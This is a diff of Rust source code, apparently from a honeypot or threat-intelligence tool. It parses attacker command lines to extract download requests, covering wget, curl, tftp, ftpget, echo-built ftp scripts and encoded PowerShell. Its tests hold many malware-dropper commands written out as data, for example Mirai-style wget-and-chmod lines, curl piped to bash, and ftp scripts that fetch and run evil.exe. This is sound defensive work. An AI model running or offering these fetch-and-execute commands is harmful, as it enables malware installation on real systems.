+                    | b"headers"
+                    | b"useragent"
+                    | b"body"
+                    | b"contenttype"
+                    | b"credential"
+                    | b"proxy"
+                    | b"timeoutsec"
+                    | b"displayname"
+                    | b"description"
+                    | b"transfertype"
+                    | b"priority"
+            );
+            i += usize::from(takes);
+            continue;
+        }
+        if prog == Prog::Wget && matches!(a, b"-g" | b"-l" | b"-r") {
+            match a {
+                b"-g" => wa.g_host = next,
+                b"-l" => wa.g_local = next,
+                _ => wa.g_remote = next,
+            }
+            i += 1;
+            continue;
+        }
+        if let Some(long) = al.strip_prefix(b"--") {
+            let (name, val, inline) = match long.iter().position(|&c| c == b'=') {
+                Some(k) => (&long[..k], Some(&a[2 + k + 1..]), true),
+                None => (long, next, false),
+            };
+            let consumed = match name {
+                b"output-document" | b"output" => {
+                    wa.output = val;
+                    true
+                }
+                b"user" | b"http-user" | b"ftp-user" | b"username" => {
+                    wa.user = val.map(text);
+                    true
+                }
+                b"password" | b"http-password" | b"ftp-password" | b"http-passwd" => {
+                    wa.pass = val.map(text);
+                    true
+                }
+                b"remote-name" => {
+                    wa.remote_name = true;
+                    false
+                }
+                b"header" | b"user-agent" | b"referer" | b"tries" | b"timeout" | b"directory-prefix" | b"data"
+                | b"request" | b"proxy" | b"max-time" | b"connect-timeout" | b"cookie" | b"retry" | b"output-file"
+                | b"append-output" | b"execute" | b"wait" | b"limit-rate" | b"data-binary" | b"form" => true,
+                _ => false,
+            };
+            if consumed && !inline {
+                i += 1;
+            }
+            continue;
+        }
+        // Short options, possibly grouped (`-qO-`, `-fsSLo x`).
+        for (k, &ch) in a.iter().enumerate().skip(1) {
+            if ch == out_letter || value_letters.contains(&ch) {
+                let rest = &a[k + 1..];
+                let val = if rest.is_empty() {
+                    i += 1;
+                    next
+                } else {
+                    Some(rest)
+                };
+                if ch == out_letter {
+                    wa.output = val;
+                } else if prog == Prog::Curl && ch == b'u' {
+                    if let Some(v) = val {
+                        match v.iter().position(|&c| c == b':') {
+                            Some(p) => {
+                                wa.user = Some(text(&v[..p]));
+                                wa.pass = Some(text(&v[p + 1..]));
+                            }
+                            None => wa.user = Some(text(v)),
+                        }
+                    }
+                }
+                break;
+            }
+            if prog == Prog::Curl && ch == b'O' {
+                wa.remote_name = true;
+            }
+        }
+    }
+    wa
+}
+
+// ---------------------------------------------------------------------------------------
+// tftp and ftpget.
+
+struct Fetch {
+    host: String,
+    port: Option<u16>,
+    remote: Vec<u8>,
+    local: Option<Vec<u8>>,
+}
+
+/// Windows `tftp [-i] HOST GET FILE [LOCAL]`, busybox `tftp -g -r FILE [-l LOCAL] HOST
+/// [PORT]`, tftp-hpa `tftp [-m MODE] HOST [PORT] -c get FILE [LOCAL]`.
+fn parse_tftp(args: &[&[u8]]) -> Option<Fetch> {
+    let (mut remote, mut local) = (None, None);
+    let mut pos: Vec<&[u8]> = Vec::new();
+    let mut cmd: Vec<&[u8]> = Vec::new();
+    let mut cmd_mode = false;
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i];
+        i += 1;
+        if cmd_mode {
+            cmd.push(a);
+            continue;
+        }
+        if a.len() > 1 && a[0] == b'-' {
+            let al = lower(a);
+            if al == b"-c" {
+                cmd_mode = true;
+                continue;
+            }
+            for (k, &ch) in al.iter().enumerate().skip(1) {
+                if matches!(ch, b'r' | b'l' | b'b' | b'm') {
+                    let val = if k + 1 < a.len() {
+                        Some(&a[k + 1..])
+                    } else {
+                        i += 1;
+                        args.get(i - 1).copied()
+                    };
+                    match ch {
+                        b'r' => remote = val,
+                        b'l' => local = val,
+                        _ => {}
+                    }
+                    break;
+                }
+            }
+            continue;
+        }
+        pos.push(a);
+    }
+    let mut port_word = pos.get(1).copied();
+    if remote.is_none() {
+        if cmd.first().is_some_and(|c| c.eq_ignore_ascii_case(b"get")) {
+            remote = cmd.get(1).copied();
+            local = cmd.get(2).copied().or(local);
+        } else if let Some(g) = pos.iter().position(|w| w.eq_ignore_ascii_case(b"get")).filter(|&g| g >= 1) {
+            remote = pos.get(g + 1).copied();
+            local = pos.get(g + 2).copied().or(local);
+            port_word = if g == 2 { pos.get(1).copied() } else { None };
+        }
+    }
+    let remote = remote.or(local)?;
+    let (host, mut port) = host_port(pos.first()?)?;
+    if port.is_none() {
+        port = port_word.and_then(parse_port);
+    }
+    Some(Fetch { host, port, remote: remote.to_vec(), local: local.map(<[u8]>::to_vec) })
+}
+
+/// busybox `ftpget [-c] [-v] [-u USER] [-p PASS] [-P PORT] HOST [LOCAL] REMOTE`.
+fn parse_ftpget(args: &[&[u8]]) -> Option<(Fetch, Option<String>, Option<String>)> {
+    let (mut user, mut pass, mut port) = (None, None, None);
+    let mut pos: Vec<&[u8]> = Vec::new();
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i];
+        let next = args.get(i + 1).copied();
+        i += 1;
+        if let Some(long) = a.strip_prefix(b"--") {
+            let (name, val) = match long.iter().position(|&c| c == b'=') {
+                Some(k) => (&long[..k], Some(&long[k + 1..])),
+                None => {
+                    i += 1;
+                    (long, next)
+                }
+            };
+            match name {
+                b"username" => user = val.map(text),
+                b"password" => pass = val.map(text),
+                b"port" => port = val.and_then(parse_port),
+                _ => {}
+            }
+            continue;
+        }
+        if a.len() > 1 && a[0] == b'-' {
+            for (k, &ch) in a.iter().enumerate().skip(1) {
+                if matches!(ch, b'u' | b'p' | b'P') {
+                    let val = if k + 1 < a.len() {
+                        Some(&a[k + 1..])
+                    } else {
+                        i += 1;
+                        next
+                    };
+                    match ch {
+                        b'u' => user = val.map(text),
+                        b'p' => pass = val.map(text),
+                        _ => port = val.and_then(parse_port),
+                    }
+                    break;
+                }
+            }
+            continue;
+        }
+        pos.push(a);
+    }
+    let (host, hport) = host_port(pos.first()?)?;
+    let (local, remote) = match pos.len() {
+        0 | 1 => return None,
+        2 => (None, pos[1]),
+        _ => (Some(pos[1].to_vec()), pos[2]),
+    };
+    Some((Fetch { host, port: port.or(hport), remote: remote.to_vec(), local }, user, pass))
+}
+
+// ---------------------------------------------------------------------------------------
+// echo / printf.
+
+/// Backslash escapes of `echo -e` (octal as `\0NNN`) and `printf` (octal as `\NNN`).
+/// Returns the bytes and whether `\c` stopped the output.
+fn unescape(s: &[u8], printf: bool, out: &mut Vec<u8>) -> bool {
+    let mut i = 0;
+    while i < s.len() {
+        let c = s[i];
+        if c != b'\\' || i + 1 >= s.len() {
+            out.push(c);
+            i += 1;
+            continue;
+        }
+        let e = s[i + 1];
+        i += 2;
+        let simple = match e {
+            b'\\' => Some(b'\\'),
+            b'a' => Some(7),
+            b'b' => Some(8),
+            b'e' | b'E' => Some(27),
+            b'f' => Some(12),
+            b'n' => Some(b'\n'),
+            b'r' => Some(b'\r'),
+            b't' => Some(b'\t'),
+            b'v' => Some(11),
+            b'"' => Some(b'"'),
+            b'\'' => Some(b'\''),
+            _ => None,
+        };
+        if let Some(b) = simple {
+            out.push(b);
+            continue;
+        }
+        match e {
+            b'c' if !printf => return true,
+            b'x' => {
+                let mut v = 0u8;
+                let mut n = 0;
+                while n < 2 {
+                    match s.get(i).and_then(|&c| hex(c)) {
+                        Some(h) => {
+                            v = v << 4 | h;
+                            i += 1;
+                            n += 1;
+                        }
+                        None => break,
+                    }
+                }
+                if n == 0 {
+                    out.extend_from_slice(b"\\x");
+                } else {
+                    out.push(v);
+                }
+            }
+            b'0'..=b'7' => {
+                let mut v: u32 = if !printf && e == b'0' { 0 } else { u32::from(e - b'0') };
+                let max = if !printf && e == b'0' { 3 } else { 2 };
+                let mut n = 0;
+                while n < max && s.get(i).is_some_and(|c| (b'0'..=b'7').contains(c)) {
+                    v = v * 8 + u32::from(s[i] - b'0');
+                    i += 1;
+                    n += 1;
+                }
+                out.push(v as u8);
+            }
+            _ => out.extend_from_slice(&[b'\\', e]),
+        }
+    }
+    false
+}
+
+/// What an `echo` prints: (bytes, escapes interpreted).
+fn render_echo(args: &[&[u8]]) -> (Vec<u8>, bool) {
+    let (mut newline, mut esc) = (true, false);
+    let mut k = 0;
+    while let Some(a) = args.get(k) {
+        if a.len() >= 2 && a[0] == b'-' && a[1..].iter().all(|c| matches!(c, b'n' | b'e' | b'E')) {
+            for &c in &a[1..] {
+                match c {
+                    b'n' => newline = false,
+                    b'e' => esc = true,
+                    _ => esc = false,
+                }
+            }
+            k += 1;
+        } else {
+            break;
+        }
+    }
+    let mut out = Vec::new();
+    for (n, a) in args[k..].iter().enumerate() {
+        if n > 0 {
+            out.push(b' ');
+        }
+        if esc {
+            if unescape(a, false, &mut out) {
+                return (out, true);
+            }
+        } else {
+            out.extend_from_slice(a);
+        }
+    }
+    if newline {
+        out.push(b'\n');
+    }
+    (out, esc)
+}
+
+/// What a `printf FORMAT ARGS…` prints (`%s`, `%b`, `%%`; other conversions print their
+/// argument).
+fn render_printf(args: &[&[u8]]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let Some(fmt) = args.first() else { return out };
+    let mut rest = args[1..].iter();
+    let mut i = 0;
+    while i < fmt.len() {
+        if fmt[i] != b'%' {
+            let j = fmt[i..].iter().position(|&c| c == b'%').map_or(fmt.len(), |k| i + k);
+            unescape(&fmt[i..j], true, &mut out);
+            i = j;
+            continue;
+        }
+        match fmt.get(i + 1) {
+            Some(b'%') => out.push(b'%'),
+            Some(b'b') => {
+                if let Some(a) = rest.next() {
+                    unescape(a, false, &mut out);
+                }
+            }
+            Some(_) => {
+                if let Some(a) = rest.next() {
+                    out.extend_from_slice(a);
+                }
+            }
+            None => out.push(b'%'),
+        }
+        i += 2;
+    }
+    out
+}
+
+fn dev_target(t: &[u8]) -> bool {
+    t.starts_with(b"/dev/") || t.starts_with(b"/proc/") || t.starts_with(b"/sys/") || t.eq_ignore_ascii_case(b"nul")
+}
+
+#[derive(Default)]
+struct FtpScript {
+    key: Vec<u8>,
+    host: String,
+    port: Option<u16>,
+    user: Option<String>,
+    pass: Option<String>,
+    cwd: Option<String>,
+}
+
+struct InlineFile {
+    target: Vec<u8>,
+    data: Vec<u8>,
+    pos: usize,
+    escaped: bool,
+}
+
+// ---------------------------------------------------------------------------------------
+// The scan.
+
+struct Scan<'s> {
+    t: Vec<u8>,
+    depth: usize,
+    pos_override: Option<usize>,
+    sink: &'s mut Sink,
+    scripts: Vec<FtpScript>,
+    inline: Vec<InlineFile>,
+}
+
+fn scan(raw: &[u8], depth: usize, pos_override: Option<usize>, sink: &mut Sink) {
+    if depth > MAX_DEPTH || sink.full() {
+        return;
+    }
+    let t = normalize(raw);
+    let toks = tokenize(&t);
+    let urls = find_urls(&t);
+    let mut s = Scan { t, depth, pos_override, sink, scripts: Vec::new(), inline: Vec::new() };
+    let mut u = 0;
+    for ci in 0..toks.cmds.len() {
+        if s.sink.full() {
+            break;
+        }
+        let next_start = toks.cmds.get(ci + 1).map_or(usize::MAX, |c| c.start);
+        let u0 = u;
+        while u < urls.len() && urls[u].start < next_start {
+            u += 1;
+        }
+        s.command(&toks, ci, &urls[u0..u]);
+    }
+    for hit in &urls[u..] {
+        s.emit_url(hit, None, Prog::Other, hit.start);
+    }
+    let files = std::mem::take(&mut s.inline);
+    for f in files {
+        if f.escaped && f.data.len() >= MIN_INLINE {
+            if let Some(name) = basename(&f.target) {
+                let pos = s.pos(f.pos);
+                s.sink.push(
+                    pos,
+                    Request {
+                        scheme: Scheme::Inline,
+                        host: String::new(),
+                        port: None,
+                        user: None,
+                        pass: None,
+                        path: String::new(),
+                        filename: name,
+                        data: f.data,
+                    },
+                );
+            }
+        }
+    }
+}
+
+/// HTTP headers whose URLs name something rather than ask for a download.
+const NAMING_HEADERS: &[&[u8]] = &[
+    b"referer",
+    b"referrer",
+    b"origin",
+    b"user-agent",
+    b"host",
+    b"soapaction",
+    b"location",
+    b"content-location",
+    b"link",
+    b"x-forwarded-host",
+    b"accept",
+];
+
+impl Scan<'_> {
+    fn pos(&self, p: usize) -> usize {
+        self.pos_override.unwrap_or(p)
+    }
+
+    /// Is this URL only a name (an XML namespace, a `Referer`, a crawler's home page)?
+    fn naming_url(&self, hit: &UrlHit) -> bool {
+        let t = &self.t;
+        if hit.start >= 2 && matches!(t[hit.start - 1], b'"' | b'\'') && t[hit.start - 2] == b'=' {
+            return true;
+        }
+        let line_end = t[hit.line_start..]
+            .iter()
+            .take(2048)
+            .position(|&c| c == b'\n')
+            .map_or(t.len().min(hit.line_start + 2048), |k| hit.line_start + k);
+        let line = &t[hit.line_start..line_end];
+        let Some(colon) = line.iter().take(40).position(|&c| c == b':') else { return false };
+        let name = lower(&line[..colon]);
+        if !NAMING_HEADERS.contains(&&name[..]) {
+            return false;
+        }
+        let mut v = hit.line_start + colon + 1;
+        while v < hit.start && matches!(t[v], b' ' | b'\t' | b'"' | b'\'' | b'<') {
+            v += 1;
+        }
+        if v == hit.start {
+            return true;
+        }
+        name == b"user-agent" && !(contains_ci(line, b"() {") || line.contains(&b'`') || contains_ci(line, b"$("))
+    }
+
+    fn emit_url(&mut self, hit: &UrlHit, filename: Option<String>, prog: Prog, pos: usize) {
+        let downloader = matches!(
+            prog,
+            Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb | Prog::Tftp | Prog::Ftpget
+        );
+        if !downloader && self.naming_url(hit) {
+            return;
+        }
+        let filename = filename.or_else(|| self.ps_downloadfile_dest(hit)).unwrap_or_else(|| hit.url.name.clone());
+        let u = &hit.url;
+        let pos = self.pos(pos);
+        self.sink.push(
+            pos,
+            Request {
+                scheme: u.scheme,
+                host: u.host.clone(),
+                port: u.port,
+                user: u.user.clone(),
+                pass: u.pass.clone(),
+                path: u.path.clone(),
+                filename,
+                data: Vec::new(),
+            },
+        );
+    }
+
+    /// PowerShell `.DownloadFile('URL', 'C:\dest.exe')`: the destination's file name.
+    fn ps_downloadfile_dest(&self, hit: &UrlHit) -> Option<String> {
+        let t = &self.t;
+        let before = &t[hit.start.saturating_sub(64)..hit.start];
+        if !contains_ci(before, b"downloadfile") {
+            return None;
+        }
+        let mut i = hit.end;
+        while i < t.len() && i - hit.end < 16 && matches!(t[i], b'\'' | b'"' | b' ') {
+            i += 1;
+        }
+        if t.get(i) != Some(&b',') {
+            return None;
+        }
+        i += 1;
+        while i < t.len() && matches!(t[i], b'\'' | b'"' | b' ') {
+            i += 1;
+        }
+        let s = i;
+        while i < t.len() && i - s < 1024 && !matches!(t[i], b'\'' | b'"' | b')' | b';' | b'\n' | b'\r') {
+            i += 1;
+        }
+        basename(&t[s..i])
+    }
+
+    fn command(&mut self, toks: &Toks, ci: usize, urls: &[UrlHit]) {
+        let cmd = &toks.cmds[ci];
+        let words = toks.words(cmd);
+        let (prog, k) = resolve(&words);
+        let args: Vec<&[u8]> = words.get(k..).unwrap_or(&[]).to_vec();
+        let redir = toks.redir(cmd).map(|(t, a)| (t.to_vec(), a));
+        let redir_name = redir.as_ref().filter(|(t, _)| !dev_target(t)).and_then(|(t, _)| basename(t));
+        match prog {
+            Prog::Wget | Prog::Curl | Prog::Fetch | Prog::UrlThenFile | Prog::PsWeb => {
+                let wa = parse_web(prog, &args);
+                let stdout = match (prog, wa.output) {
+                    (_, Some(b"-")) => true,
+                    (Prog::Curl, None) => !wa.remote_name,
+                    _ => false,
+                };
+                let mut out = wa.output.filter(|o| *o != b"-").and_then(basename);
+                if matches!(prog, Prog::UrlThenFile | Prog::PsWeb) && out.is_none() {
+                    let ui = wa.positionals.iter().position(|p| contains_ci(p, b"://"));
+                    out = ui.and_then(|ui| wa.positionals.get(ui + 1)).and_then(|p| basename(p));
+                }
+                if out.is_none() && stdout {
+                    out = redir_name.clone();
+                }
+                let (user, pass) = (wa.user.clone(), wa.pass.clone());
+                for (n, hit) in urls.iter().enumerate() {
+                    let mut hit = hit.clone();
+                    if hit.url.user.is_none() && user.is_some() {
+                        hit.url.user = user.clone();
+                        hit.url.pass = pass.clone();
+                    }
+                    let name = if n == 0 { out.clone() } else { None };
+                    self.emit_url(&hit, name, prog, hit.start);
+                }
+                if matches!(prog, Prog::Wget | Prog::Curl | Prog::Fetch) {
+                    if let Some(h) = wa.g_host {
+                        if let (Some((host, port)), Some(remote)) = (host_port(h), wa.g_remote.or(wa.g_local)) {
+                            let name = wa.g_local.and_then(basename).or_else(|| basename(remote));
+                            self.push_fetch(
+                                Scheme::Tftp,
+                                Fetch { host, port, remote: remote.to_vec(), local: None },
+                                name,
+                                None,
+                                None,
+                                cmd.start,
+                            );
+                        }
+                    } else {
+                        for p in wa.positionals.iter().filter(|_| urls.is_empty()) {
+                            if !contains_ci(p, b"://") && looks_like_server(p) {
+                                let end = url_end(p, 0);
+                                if let Some(url) = parse_url(Scheme::Http, &p[..end]) {
+                                    let hit = UrlHit { start: cmd.start, end: cmd.start, line_start: cmd.start, url };
+                                    let name = out.clone();
+                                    self.emit_url(&hit, name, prog, cmd.start);
+                                }
+                            }
+                        }
+                    }
+                }
+            }
+            Prog::Tftp => {
+                for hit in urls {
+                    self.emit_url(hit, None, prog, hit.start);
+                }
+                if let Some(f) = parse_tftp(&args) {
+                    let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
+                    self.push_fetch(Scheme::Tftp, f, name, None, None, cmd.start);
+                }
+            }
+            Prog::Ftpget => {
+                for hit in urls {
+                    self.emit_url(hit, None, prog, hit.start);
+                }
+                if let Some((f, user, pass)) = parse_ftpget(&args) {
+                    let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
+                    self.push_fetch(Scheme::Ftp, f, name, user, pass, cmd.start);
+                }
+            }
+            Prog::Echo | Prog::Printf => {
+                for hit in urls {
+                    self.emit_url(hit, None, prog, hit.start);
+                }
+                let (data, escaped) =
+                    if prog == Prog::Echo { render_echo(&args) } else { (render_printf(&args), true) };
+                if prog == Prog::Echo {
+                    self.ftp_script(&args, redir.as_ref().map(|r| &r.0[..]), cmd.start);
+                }
+                if let Some((target, append)) = &redir {
+                    if !dev_target(target) {
+                        self.inline_write(target, *append, data, escaped, cmd.start);
+                    }
+                } else if cmd.piped {
+                    self.piped_body(toks, ci, &args, data, escaped, cmd.start);
+                }
+            }
+            Prog::PsEnc(idx) => {
+                for hit in urls {
+                    self.emit_url(hit, None, prog, hit.start);
+                }
+                if let Some(dec) = words.get(idx).and_then(|w| base64_decode(w)) {
+                    let body = utf16le_text(&dec);
+                    self.nested(&body, cmd.start);
+                }
+            }
+            Prog::Base64 | Prog::Shell | Prog::Other => {
+                for hit in urls {
+                    self.emit_url(hit, None, prog, hit.start);
+                }
+            }
+        }
+    }
+
+    fn push_fetch(
+        &mut self,
+        scheme: Scheme,
+        f: Fetch,
+        name: Option<String>,
+        user: Option<String>,
+        pass: Option<String>,
+        pos: usize,
+    ) {
+        let Some(name) = name else { return };
+        if f.remote.is_empty() {
+            return;
+        }
+        let pos = self.pos(pos);
+        self.sink.push(
+            pos,
+            Request {
+                scheme,
+                host: f.host,
+                port: f.port,
+                user,
+                pass,
+                path: text(&f.remote),
+                filename: name,
+                data: Vec::new(),
+            },
+        );
+    }
+
+    fn nested(&mut self, body: &[u8], pos: usize) {
+        if self.depth < MAX_DEPTH {
+            let pos = self.pos(pos);
+            scan(body, self.depth + 1, Some(pos), self.sink);
+        }
+    }
+
+    /// `echo X | base64 -d | sh`, `printf '\x77\x67…' | sh`: decode and scan the body.
+    fn piped_body(&mut self, toks: &Toks, ci: usize, args: &[&[u8]], data: Vec<u8>, escaped: bool, pos: usize) {
+        let Some(next) = toks.cmds.get(ci + 1) else { return };
+        let nwords = toks.words(next);
+        let (nprog, nk) = resolve(&nwords);
+        match nprog {
+            Prog::Base64 => {
+                let decode = nwords
+                    .get(nk..)
+                    .unwrap_or(&[])
+                    .iter()
+                    .any(|a| matches!(*a, b"-d" | b"--decode" | b"-D" | b"-di" | b"-id"));
+                if decode {
+                    let joined: Vec<u8> =
+                        args.iter().filter(|a| !a.starts_with(b"-")).flat_map(|a| a.iter().copied()).collect();
+                    if let Some(body) = base64_decode(&joined) {
+                        self.nested(&body, pos);
+                    }
+                }
+            }
+            Prog::Shell if escaped => self.nested(&data, pos),
+            _ => {}
+        }
+    }
+
+    fn inline_write(&mut self, target: &[u8], append: bool, data: Vec<u8>, escaped: bool, pos: usize) {
+        if let Some(f) = self.inline.iter_mut().find(|f| f.target == target) {
+            if !append {
+                f.data.clear();
+            }
+            f.data.extend_from_slice(&data);
+            f.escaped |= escaped;
+            return;
+        }
+        if self.inline.len() < MAX_REQUESTS {
+            self.inline.push(InlineFile { target: target.to_vec(), data, pos, escaped });
+        }
+    }
+
+    /// `echo open HOST [PORT] > f`, `echo user U P >> f`, `echo U >> f`, `echo get FILE >> f`
+    /// (SPEC §8.2) — one script per target file; each `get` is a download.
+    fn ftp_script(&mut self, args: &[&[u8]], target: Option<&[u8]>, pos: usize) {
+        let key = target.unwrap_or(b"").to_vec();
+        let Some(first) = args.first() else { return };
+        let cmd = lower(first);
+        if cmd == b"open" {
+            let Some((host, mut port)) = args.get(1).and_then(|h| host_port(h)) else { return };
+            if port.is_none() {
+                port = args.get(2).and_then(|p| parse_port(p));
+            }
+            let script = FtpScript { key: key.clone(), host, port, ..FtpScript::default() };
+            if let Some(s) = self.scripts.iter_mut().find(|s| s.key == key) {
+                *s = script;
+            } else if self.scripts.len() < MAX_SCRIPTS {
+                self.scripts.push(script);
+            }
+            return;
+        }
+        let Some(idx) = self.scripts.iter().position(|s| s.key == key) else { return };
+        match &cmd[..] {
+            // A lone `USER`/`PASS` is the user name or password itself (SPEC §8.2 form 2).
+            b"user" | b"pass" if args.len() == 1 => self.ftp_credential(idx, args),
+            b"user" => {
+                let s = &mut self.scripts[idx];
+                s.user = args.get(1).map(|u| text(u));
+                s.pass = args.get(2).map(|p| text(p));
+            }
+            b"pass" => self.scripts[idx].pass = args.get(1).map(|p| text(p)),
+            b"cd" => self.scripts[idx].cwd = args.get(1).map(|d| text(d)),
+            b"get" | b"recv" | b"mget" => {
+                let files: Vec<(&[u8], Option<&[u8]>)> = if cmd == b"mget" {
+                    args[1..].iter().map(|f| (*f, None)).collect()
+                } else {
+                    args.get(1).map(|f| (*f, args.get(2).copied())).into_iter().collect()
+                };
+                for (file, local) in files {
+                    let s = &self.scripts[idx];
+                    let remote = match &s.cwd {
+                        Some(d) if !file.starts_with(b"/") => format!("{}/{}", d.trim_end_matches('/'), text(file)),
+                        _ => text(file),
+                    };
+                    let name = local.and_then(basename).or_else(|| basename(file));
+                    let f = Fetch { host: s.host.clone(), port: s.port, remote: remote.into_bytes(), local: None };
+                    let (user, pass) = (s.user.clone(), if s.user.is_some() { s.pass.clone() } else { None });
+                    self.push_fetch(Scheme::Ftp, f, name, user, pass, pos);
+                }
+            }
+            b"bin" | b"binary" | b"ascii" | b"bye" | b"quit" | b"prompt" | b"hash" | b"type" | b"passive"
+            | b"verbose" | b"close" | b"disconnect" | b"lcd" | b"literal" | b"quote" | b"status" | b"debug"
+            | b"glob" | b"bell" | b"put" | b"send" | b"mput" | b"dir" | b"ls" | b"pwd" => {}
+            _ => self.ftp_credential(idx, args),
+        }
+    }
+
+    /// Without -n, ftp.exe reads the user name and the password as the first lines after
+    /// `open`.
+    fn ftp_credential(&mut self, idx: usize, args: &[&[u8]]) {
+        let (Some(s), Some(first)) = (self.scripts.get_mut(idx), args.first()) else { return };
+        if s.user.is_none() {
+            s.user = Some(text(first));
+            s.pass = args.get(1).map(|p| text(p));
+        } else if s.pass.is_none() {
+            s.pass = Some(text(first));
+        }
+    }
+}
+
+/// The text of UTF-16LE bytes (PowerShell `-EncodedCommand`); non-ASCII characters become
+/// `?`.
+fn utf16le_text(d: &[u8]) -> Vec<u8> {
+    d.chunks(2)
+        .map(|c| match c {
+            [lo, 0] if *lo != 0 => *lo,
+            [lo] => *lo,
+            _ => b'?',
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::wire::testutil::XorShift;
+
+    /// A compact expectation: `scheme host port user pass path filename`.
+    fn show(r: &Request) -> String {
+        if r.scheme == Scheme::Inline {
+            return format!("inline {} {}", r.filename, r.data.len());
+        }
+        format!(
+            "{} {} {} {} {} {} {}",
+            r.scheme.name(),
+            r.host,
+            r.port.map_or("-".into(), |p| p.to_string()),
+            r.user.as_deref().unwrap_or("-"),
+            r.pass.as_deref().unwrap_or("-"),
+            r.path,
+            r.filename
+        )
+    }
+
+    fn check(attack: &[u8], want: &[&str]) {
+        let got: Vec<String> = extract(attack).iter().map(show).collect();
+        assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
+    }
+
+    #[test]
+    fn ftp_scripts() {
+        check(
+            b"echo open 1.2.3.4 21 > o&echo user foo bar >> o &echo get evil.exe >> o &ftp -n -v -s:o &del o &evil.exe",
+            &["ftp 1.2.3.4 21 foo bar evil.exe evil.exe"],
+        );
+        check(
+            b"echo open 10.0.0.9 2121>>t&echo USER>>t&echo PASS>>t&echo bin>>t&echo get FILE>>t&echo bye>>t&ftp -s:t",
+            &["ftp 10.0.0.9 2121 USER PASS FILE FILE"],
+        );
+        check(
+            b"cmd /c echo open 1.2.3.4 21>>ik &echo user 1 1>>ik &echo get a.exe>>ik &echo bye>>ik &ftp -n -v -s:ik &del ik &a.exe",
+            &["ftp 1.2.3.4 21 1 1 a.exe a.exe"],
+        );
+        // Mixed case, no port, password on its own line, `ftp.exe`.
+        check(
+            b"CMD /C ECHO OPEN ftp.example.net> x & Echo User anon >> x & echo Pass me@x.com >> x & echo binary >> x & ECHO GET /pub/srv.exe C:\\srv.exe >> x & FTP.EXE -n -s:x",
+            &["ftp ftp.example.net - anon me@x.com /pub/srv.exe srv.exe"],
+        );
+        // Anonymous (no user line) and a subshell piped into ftp; two files.
+        check(
+            b"(echo open 192.0.2.1; echo binary; echo get a.exe; echo get b.exe; echo quit) | ftp -n",
+            &["ftp 192.0.2.1 - - - a.exe a.exe", "ftp 192.0.2.1 - - - b.exe b.exe"],
+        );
+        // `cd` in the script.
+        check(
+            b"echo open 192.0.2.1 >s;echo u >>s;echo p >>s;echo cd pub>>s;echo get x.exe>>s;ftp -s:s",
+            &["ftp 192.0.2.1 - u p pub/x.exe x.exe"],
+        );
+        // IPv6 host.
+        check(b"echo open 2001:db8::5 2121>f&echo user a b>>f&echo get z>>f", &["ftp 2001:db8::5 2121 a b z z"]);
+        // get without open: nothing.
+        check(b"echo get evil.exe >> o & ftp -s:o", &[]);
+    }
+
+    #[test]
+    fn tftp_forms() {
+        check(b"tftp -i 1.2.3.4 GET file.exe", &["tftp 1.2.3.4 - - - file.exe file.exe"]);
+        check(
+            b"cmd.exe /c Tftp -I 1.2.3.4 get Msblast.exe c:\\windows\\a.exe & start a.exe",
+            &["tftp 1.2.3.4 - - - Msblast.exe a.exe"],
+        );
+        check(b"tftp.exe -i 198.51.100.3 GET dl/x.exe", &["tftp 198.51.100.3 - - - dl/x.exe x.exe"]);
+        check(b"cd /tmp; tftp -g -r tftp2.sh 1.2.3.4; sh tftp2.sh", &["tftp 1.2.3.4 - - - tftp2.sh tftp2.sh"]);
+        check(b"tftp -r mips -g 1.2.3.4 69", &["tftp 1.2.3.4 69 - - mips mips"]);
+        check(b"busybox tftp -g -l dvrHelper -r bot.arm7 203.0.113.7", &["tftp 203.0.113.7 - - - bot.arm7 dvrHelper"]);
+        check(b"/bin/busybox tftp -gr bot.x86 203.0.113.7 2>/dev/null", &["tftp 203.0.113.7 - - - bot.x86 bot.x86"]);
+        check(b"tftp 1.2.3.4 -c get tftp1.sh", &["tftp 1.2.3.4 - - - tftp1.sh tftp1.sh"]);
+        check(b"tftp -m binary 1.2.3.4 6969 -c get a.sh b.sh", &["tftp 1.2.3.4 6969 - - a.sh b.sh"]);
+        check(b"tftp -g -r x fd00::7", &["tftp fd00::7 - - - x x"]);
+        check(b"TFTP -i", &[]);
+        check(b"tftp -i 1.2.3.4", &[]);
+    }
+
+    #[test]
+    fn ftpget_forms() {
+        check(
+            b"ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 ftp1.sh ftp1.sh",
+            &["ftp 1.2.3.4 21 anonymous anonymous ftp1.sh ftp1.sh"],
+        );
+        check(
+            b"busybox ftpget 198.51.100.9 local.bin /pub/remote.bin",
+            &["ftp 198.51.100.9 - - - /pub/remote.bin local.bin"],
+        );
+        check(b"ftpget -P 2121 h.example.org x", &["ftp h.example.org 2121 - - x x"]);
+        check(b"ftpget 1.2.3.4", &[]);
+    }
+
+    #[test]
+    fn http_clients() {
+        check(b"wget http://1.2.3.4/a.sh", &["http 1.2.3.4 - - - /a.sh a.sh"]);
+        check(b"WGET HTTP://Example.COM:8080/x/Y.bin?z=1#frag", &["http Example.COM 8080 - - /x/Y.bin?z=1 Y.bin"]);
+        check(b"busybox wget http://[2001:db8::1]:8080/x", &["http 2001:db8::1 8080 - - /x x"]);
+        check(b"wget -qO- http://x.example|sh", &["http x.example - - - / index.html"]);
+        check(
+            b"wget http://1.2.3.4/bins/mirai.arm -O /tmp/.m; chmod +x /tmp/.m",
+            &["http 1.2.3.4 - - - /bins/mirai.arm .m"],
+        );
+        check(
+            b"/bin/busybox wget http://1.2.3.4:80/bins/mirai.x86 -O - > dvrHelper",
+            &["http 1.2.3.4 80 - - /bins/mirai.x86 dvrHelper"],
+        );
+        check(b"wget --output-document=/var/t.bin https://s.example.net/t", &["https s.example.net - - - /t t.bin"]);
+        check(b"curl -s -L http://x.example/a.sh | bash", &["http x.example - - - /a.sh a.sh"]);
+        check(
+            b"curl -fsSLo /tmp/k http://198.51.100.1/k.bin && chmod +x /tmp/k",
+            &["http 198.51.100.1 - - - /k.bin k"],
+        );
+        check(b"curl http://198.51.100.1/k.bin > /tmp/kk; sh /tmp/kk", &["http 198.51.100.1 - - - /k.bin kk"]);
